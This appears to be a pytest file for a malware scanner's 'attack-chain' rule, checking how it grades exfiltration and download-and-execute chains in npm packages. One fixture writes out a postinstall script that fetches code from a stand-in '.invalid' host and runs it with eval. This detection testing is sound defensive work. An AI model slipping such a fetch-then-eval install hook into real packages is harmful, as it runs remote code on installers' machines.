"""Chains of behaviour that only attacks show."""

from dataclasses import replace

import pytest

from pratique.analysis.chains import TEMPLATES
from pratique.analysis.chains.chain import Chain, ChainFamily, Link
from pratique.analysis.context import Context
from pratique.analysis.rules.attack_chain import CERTAIN_BY_FLOW, CERTAIN_BY_SCOPE, attack_chain
from pratique.core.finding import Severity
from pratique.core.location import Location
from tests.analysis.inspecting import npm, of_rule, package_json
from tests.analysis.rules.test_behaves_like_malware import subject

CHAIN = Chain(
    template="files-sent",
    family=ChainFamily.EXFILTRATION,
    link=Link.FLOW,
    context=Context.INSTALL,
    at_load=True,
    places=(Location("setup.js", 4), Location("setup.js", 2)),
    words="sends files away",
    host="drop.pratique.invalid",
)


def findings(chain: Chain, *before: Chain) -> list[Severity]:
    seen = replace(subject(None), chains=(chain,), chains_before=before)
    return [finding.severity for finding in attack_chain.check(seen)]


def test_a_certain_chain_at_install_is_held_with_its_places() -> None:
    (finding,) = attack_chain.check(replace(subject(None), chains=(CHAIN,)))
    assert (Severity.CRITICAL, "at install it sends files away (drop.pratique.invalid)") == (
        finding.severity,
        finding.message,
    )
    assert CHAIN.places == finding.locations


def test_what_the_baseline_did_is_a_note() -> None:
    assert [Severity.MEDIUM] == findings(CHAIN, CHAIN)
    assert [Severity.CRITICAL] == findings(CHAIN, replace(CHAIN, host="other.invalid"))


@pytest.mark.parametrize(
    "changes",
    [{"at_load": False}, {"context": Context.CALLED}, {"link": Link.FILE}, {"template": "download-started"}],
    ids=["called", "asked for by nobody", "one file", "an ordinary template"],
)
def test_weaker_chains_stay_quiet(changes: dict[str, object]) -> None:
    assert [] == findings(replace(CHAIN, **changes))  # type: ignore[arg-type]


def test_the_lists_name_templates_that_exist() -> None:
    assert CERTAIN_BY_FLOW | CERTAIN_BY_SCOPE <= {template.id for template in TEMPLATES}


def test_a_download_that_is_run_as_code_at_install_is_held() -> None:
    manifest = package_json(scripts={"postinstall": "node s.js"})
    code = "fetch('https://x.pratique.invalid/p').then(r => r.text()).then(eval)\n"
    found = of_rule(npm({"package.json": manifest, "s.js": code}), "attack-chain")
    assert "download-run-as-code" in {finding.evidence.partition(",")[0] for finding in found}


def test_a_client_that_somebody_calls_stays_quiet() -> None:
    code = "exports.get = u => fetch(u).then(r => r.text());\n"
    assert [] == of_rule(npm({"index.js": code}), "attack-chain")
